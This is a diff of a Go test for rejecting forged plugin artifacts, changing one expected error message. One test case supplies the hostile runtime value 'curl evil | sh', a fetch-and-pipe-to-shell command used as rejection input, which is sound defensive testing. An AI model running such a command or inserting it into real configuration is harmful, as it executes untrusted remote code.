@@ -138,7 +138,7 @@ func TestHostileArtifacts(t *testing.T) {
 		"other name":      {`describes the plugin "mail"`, func(_ *server, f *forgery) { f.config.Name = "mail" }},
 		"other version":   {`in version "1.0.1"`, func(_ *server, f *forgery) { f.config.Version = "1.0.1" }},
 		"strange runtime": {"is not a runtime", func(_ *server, f *forgery) { f.config.Runtime = "curl evil | sh" }},
-		"other tools": {"describes itself otherwise", func(_ *server, f *forgery) {
+		"other tools": {"differs from the published one", func(_ *server, f *forgery) {
 			f.config.Description = &tool.Description{Name: "weather", Version: "1.0.0"}
 		}},
 		"no description": {"lacks the description", func(_ *server, f *forgery) { f.config.Description = nil }},
